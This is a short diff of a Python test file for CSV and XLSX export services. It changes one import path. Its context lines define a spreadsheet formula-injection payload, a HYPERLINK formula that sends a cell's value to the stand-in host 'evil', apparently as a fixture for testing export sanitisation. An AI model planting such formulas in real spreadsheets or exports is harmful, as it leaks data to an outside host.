@@ -11,7 +11,7 @@ from openpyxl import load_workbook  # type: ignore[import-untyped]
 from sqlmodel import select
 
 from models import Ght
-from services.exports import bilan_csv, bilan_xlsx
+from services.views.exports import bilan_csv, bilan_xlsx
 
 OCTOBER_13 = date(2017, 10, 13)
 FORMULA = '=HYPERLINK("http://evil/?x="&A2,"GHT Lot")'
